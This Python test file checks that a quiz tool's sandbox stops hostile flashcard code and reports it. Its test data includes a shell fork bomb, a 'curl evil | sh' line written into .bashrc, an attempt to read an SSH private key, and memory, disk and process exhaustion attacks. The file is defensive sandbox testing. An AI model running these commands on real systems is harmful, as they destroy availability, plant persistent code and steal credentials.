"""Deck code is someone else's code: each hostile behaviour is stopped and reported, and the next card still grades.

Every test runs twice: in the bubblewrap sandbox (skipped where bubblewrap
cannot run) and with resource limits alone. Where a layer is honestly not in
force in a mode (no network isolation without bubblewrap), the test checks
that `quiz doctor`'s report says so, and skips.
"""

from __future__ import annotations

import os
import random
import signal
import socket
import time
from pathlib import Path

import pytest

from quiz.runner.client import Runner, describe_exit
from tests.runner.conftest import CHEAP_BACKEND, MakeCard

pytestmark = pytest.mark.torch

# The attacks that cost their worker (it is killed or replaced after them) are plain Python, and the
# walls and the replacing are the same for every framework's worker: they run on the framework
# cheapest to start again (CHEAP: MXNet, or torch where MXNet is missing), next to the runner's torch
# worker. The rest, and those a framework's own code matters to (its allocator, its settings, the
# fork bombs), run on torch.
CHEAP = CHEAP_BACKEND
NEXT_CARD = {"torch": ("x = torch.arange(4)", "x.sum()"), "mxnet": ("x = nd.arange(4)", "x.sum().asscalar()")}


def assert_next_card_grades(runner: Runner, make_card: MakeCard, backend: str = "torch") -> None:
    card, variant = make_card(*NEXT_CARD[backend], backend=backend)
    result = runner.run(card, variant)
    assert result.ok, result.error
    assert result.truth == 6


def worker_pid(runner: Runner, backend: str = "torch") -> int:
    runner.info(backend)
    return runner.worker(backend).host_pids()[0]


def report(runner: Runner) -> dict[str, object]:
    return runner.isolation_report(["torch"])


def processes_with(needle: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if needle.encode() in f.read():
                    found.append(int(pid))
        except OSError:
            continue
    return found


def test_busy_loop_times_out_and_the_worker_carries_on(hostile_runner: Runner, make_card: MakeCard) -> None:
    before = worker_pid(hostile_runner)
    card, variant = make_card("while True:\n    pass", "1", timeout=1)
    result = hostile_runner.run(card, variant)
    assert not result.ok and result.error_kind == "timeout"
    assert "timed out after 1 s" in (result.error or "")
    assert_next_card_grades(hostile_runner, make_card)
    assert worker_pid(hostile_runner) == before  # stopped from inside: no restart needed


def test_a_card_that_swallows_the_timeout_gets_its_worker_killed(
    hostile_runner: Runner, make_card: MakeCard
) -> None:
    before = worker_pid(hostile_runner, CHEAP)
    code = (
        "import time\nwhile True:\n    try:\n        time.sleep(10)\n    except BaseException:\n        pass"
    )
    card, variant = make_card(code, "1", timeout=1, backend=CHEAP)
    result = hostile_runner.run(card, variant)
    assert not result.ok and result.error_kind == "timeout"
    assert "restarted" in (result.error or "")
    assert not os.path.exists(f"/proc/{before}")
    assert_next_card_grades(hostile_runner, make_card, CHEAP)
    assert worker_pid(hostile_runner, CHEAP) != before


def processes_named(comm: str) -> list[int]:
    """Live processes (zombies are dead: their parent has yet to collect them) whose name is `comm`."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                stat = f.read()
        except OSError:
            continue
        name, _, rest = stat.partition(b"(")[2].rpartition(b")")
        if name == comm.encode() and rest.split()[:1] != [b"Z"]:
            found.append(int(pid))
    return found


def test_fork_bomb_is_stopped_and_leaves_nothing_behind(hostile_runner: Runner, make_card: MakeCard) -> None:
    rep = report(hostile_runner)
    if any("process limit" in m for m in rep["not_in_force"]):  # type: ignore[attr-defined]
        pytest.skip("no process limit can be set here (see quiz doctor)")
    # Every copy of the bomb names itself (the worker keeps its own name), so the copies are found
    # wherever they end up: killed after the card, or orphaned when the worker is replaced. Nothing
    # here depends on how fast the machine forks, or on which worker runs the next card.
    mark = f"qbomb{random.randrange(10**9)}"
    code = (
        "import ctypes, os\n"
        f"name, prctl = ctypes.c_char_p({mark.encode()!r}), ctypes.CDLL(None).prctl\n"
        "while True:\n"
        "    if os.fork() == 0:\n"
        "        prctl(15, name, 0, 0, 0)\n"  # PR_SET_NAME
    )
    card, variant = make_card(code, "1", timeout=5)
    result = hostile_runner.run(card, variant)
    assert not result.ok
    assert result.error_kind in ("card-error", "timeout")
    assert "BlockingIOError" in (result.error or "") or result.error_kind == "timeout"
    assert_next_card_grades(hostile_runner, make_card)
    # Killed copies may take a moment to be torn down by the kernel; a live copy after that is a leak.
    deadline = time.monotonic() + 30
    while processes_named(mark) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert processes_named(mark) == []


def test_shell_fork_bomb_outside_python_is_stopped_too(hostile_runner: Runner, make_card: MakeCard) -> None:
    rep = report(hostile_runner)
    if any("process limit" in m for m in rep["not_in_force"]):  # type: ignore[attr-defined]
        pytest.skip("no process limit can be set here (see quiz doctor)")
    before = hostile_runner.worker("torch").host_pids()
    code = (
        "import subprocess\nsubprocess.run(['sh', '-c', 'f() { f | f & }; f'])\nimport time\ntime.sleep(0.5)"
    )
    card, variant = make_card(code, "1", timeout=3)
    hostile_runner.run(card, variant)  # whatever the card saw, the bomb must be gone afterwards
    assert_next_card_grades(hostile_runner, make_card)
    assert hostile_runner.worker("torch").host_pids() == before


def test_memory_hog_gets_a_clean_memory_error(hostile_runner: Runner, make_card: MakeCard) -> None:
    # 64 MiB at a time: without the limit this would take all the machine's memory.
    card, variant = make_card("x = []\nwhile True:\n    x.append(bytearray(64 * 2**20))", "1", timeout=30)
    result = hostile_runner.run(card, variant)
    assert not result.ok and result.error_kind == "memory"
    assert (result.error or "").startswith("MemoryError")
    assert_next_card_grades(hostile_runner, make_card)


def test_framework_allocation_beyond_the_limit_is_a_memory_error_too(
    hostile_runner: Runner, make_card: MakeCard
) -> None:
    card, variant = make_card("ts = [torch.ones(2**26) for _ in range(200)]", "1", timeout=30)  # 256 MiB each
    result = hostile_runner.run(card, variant)
    assert not result.ok and result.error_kind == "memory"
    assert_next_card_grades(hostile_runner, make_card)


def test_huge_file_write_stops_at_the_file_size_limit(hostile_runner: Runner, make_card: MakeCard) -> None:
    code = "with open('big.bin', 'wb') as f:\n    for _ in range(1000):\n        f.write(b'x' * 2**20)"
    card, variant = make_card(code, "1")
    result = hostile_runner.run(card, variant)
    assert not result.ok and result.error_kind == "card-error"
    assert "File too large" in (result.error or "")
    # The scratch directory is emptied after each card: the next one starts clean.
    card, variant = make_card("import os", "sorted(os.listdir('.'))")
    result = hostile_runner.run(card, variant)
    assert result.ok and result.truth == []
    assert_next_card_grades(hostile_runner, make_card)


def test_no_connection_to_a_listener_on_localhost(hostile_runner: Runner, make_card: MakeCard) -> None:
    rep = report(hostile_runner)
    if rep["mode"] != "bwrap":
        assert any(m.startswith("network isolation") for m in rep["not_in_force"])  # type: ignore[attr-defined]
        pytest.skip("no network isolation without bubblewrap (quiz doctor says so)")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        code = f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\ns.sendall(b'leak')"
        card, variant = make_card(code, "1", backend=CHEAP)  # importing socket gets the worker replaced
        result = hostile_runner.run(card, variant)
        assert not result.ok and result.error_kind == "card-error"
        assert "ConnectionRefusedError" in (result.error or "")
        with pytest.raises(TimeoutError):
            listener.accept()
    assert_next_card_grades(hostile_runner, make_card, CHEAP)


def _home_hidden(runner: Runner) -> bool:
    rep = report(runner)
    return rep["mode"] == "bwrap" or bool(rep["own_uid_per_worker"])


def test_card_cannot_write_to_home(hostile_runner: Runner, make_card: MakeCard, tmp_path: Path) -> None:
    if not _home_hidden(hostile_runner):
        pytest.skip("without bubblewrap, a worker running as the learner can write where the learner can")
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    target = home / ".bashrc"
    code = f"with open({str(target)!r}, 'a') as f:\n    f.write('curl evil | sh')"
    card, variant = make_card(code, "1")
    result = hostile_runner.run(card, variant)
    assert not result.ok and result.error_kind == "card-error"
    assert not target.exists()
    assert_next_card_grades(hostile_runner, make_card)


def test_card_cannot_read_a_secret_in_home(
    hostile_runner: Runner, make_card: MakeCard, tmp_path: Path
) -> None:
    if not _home_hidden(hostile_runner):
        pytest.skip("without bubblewrap, a worker running as the learner can read what the learner can")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True, mode=0o700)
    secret = home / ".ssh" / "id_ed25519"
    secret.write_text("-----BEGIN OPENSSH PRIVATE KEY----- s3cr3t")
    secret.chmod(0o600)
    card, variant = make_card(f"data = open({str(secret)!r}).read()", "data")
    result = hostile_runner.run(card, variant)
    assert not result.ok and result.error_kind == "card-error"
    assert "s3cr3t" not in repr(result)
    assert_next_card_grades(hostile_runner, make_card)


def test_the_learners_real_home_is_not_visible_in_the_sandbox(hostile_runner: Runner) -> None:
    rep = report(hostile_runner)
    if rep["mode"] != "bwrap":
        pytest.skip("bubblewrap only")
    homes = rep["workers"]["torch"]["host_homes"]  # type: ignore[index]
    assert homes and all(not h["visible"] and not h["writable"] for h in homes.values())
    assert rep["workers"]["torch"]["network_interfaces"] == ["lo"]  # type: ignore[index]
    assert rep["workers"]["torch"]["package_writable"] is False  # type: ignore[index]


def test_grandchild_that_outlives_its_parent_is_killed(hostile_runner: Runner, make_card: MakeCard) -> None:
    marker = f"{random.randint(100, 999)}.{random.randint(100, 999)}"
    code = f"import subprocess\nsubprocess.run(['sh', '-c', 'sleep {marker} & echo started'], check=True)"
    card, variant = make_card(code, "1")
    result = hostile_runner.run(card, variant)
    assert result.ok, result.error
    assert processes_with(f"sleep\0{marker}") == []
    assert_next_card_grades(hostile_runner, make_card)


def test_daemonised_grandchild_in_its_own_session_is_killed(
    hostile_runner: Runner, make_card: MakeCard
) -> None:
    marker = f"{random.randint(100, 999)}.{random.randint(100, 999)}"
    code = f"import subprocess\nsubprocess.Popen(['sleep', '{marker}'], start_new_session=True)"
    card, variant = make_card(code, "1", backend=CHEAP)  # the worker is replaced after it
    result = hostile_runner.run(card, variant)
    assert result.ok, result.error
    assert processes_with(f"sleep\0{marker}") == []
    assert_next_card_grades(hostile_runner, make_card, CHEAP)


# A worker killed by a signal, and one that exits with a status: the two ways `describe_exit` reads
# an end (bubblewrap passes a signal on as the status 128 + N). A card that aborts takes the
# segfault's path to the letter (at a worker start per mode): its signal's name is checked below.
@pytest.mark.parametrize(
    ("code", "signal_name"),
    [
        ("import ctypes\nctypes.string_at(0)", "SIGSEGV"),
        ("import os\nos._exit(3)", "exit status 3"),
    ],
    ids=["segfault", "os._exit"],
)
def test_crash_is_reported_with_its_signal_and_a_new_worker_takes_over(
    hostile_runner: Runner, make_card: MakeCard, code: str, signal_name: str
) -> None:
    before = worker_pid(hostile_runner, CHEAP)
    card, variant = make_card(code, "1", backend=CHEAP)
    result = hostile_runner.run(card, variant)
    assert not result.ok and result.error_kind == "crashed"
    assert signal_name in (result.error or "")
    assert_next_card_grades(hostile_runner, make_card, CHEAP)
    assert worker_pid(hostile_runner, CHEAP) != before


def test_an_abort_is_named_as_the_segfault_is() -> None:
    """What a card that calls os.abort() gets, read as the crash test above reads a segfault."""
    assert describe_exit(-signal.SIGABRT) == "crashed (SIGABRT)"
    assert describe_exit(128 + signal.SIGABRT, sandboxed=True) == "crashed (SIGABRT)"
    assert describe_exit(128 + signal.SIGABRT) == "crashed (exit status 134)"  # not a sandbox's


def test_threads_left_running_get_the_worker_replaced(hostile_runner: Runner, make_card: MakeCard) -> None:
    before = worker_pid(hostile_runner, CHEAP)
    code = "import threading\nthreading.Thread(target=threading.Event().wait, daemon=True).start()"
    card, variant = make_card(code, "1", backend=CHEAP)
    result = hostile_runner.run(card, variant)
    assert result.ok, result.error
    assert_next_card_grades(hostile_runner, make_card, CHEAP)
    assert worker_pid(hostile_runner, CHEAP) != before


def test_state_a_card_changes_does_not_leak_into_the_next(
    hostile_runner: Runner, make_card: MakeCard
) -> None:
    code = (
        "import os, warnings\nos.makedirs('sub', exist_ok=True)\nos.chdir('sub')\n"
        "warnings.simplefilter('error')\ntorch.set_default_dtype(torch.float64)\ntorch.set_grad_enabled(False)"
    )
    card, variant = make_card(code, "1")
    assert hostile_runner.run(card, variant).ok
    check = "import os, warnings\nw = warnings.filters[0][0] if warnings.filters else None"
    card, variant = make_card(
        check,
        "[os.path.basename(os.getcwd()), torch.get_default_dtype() == torch.float32, torch.is_grad_enabled(), w]",
    )
    result = hostile_runner.run(card, variant)
    assert result.ok, result.error
    assert result.truth[0] == "work" and result.truth[1:3] == [True, True] and result.truth[3] != "error"
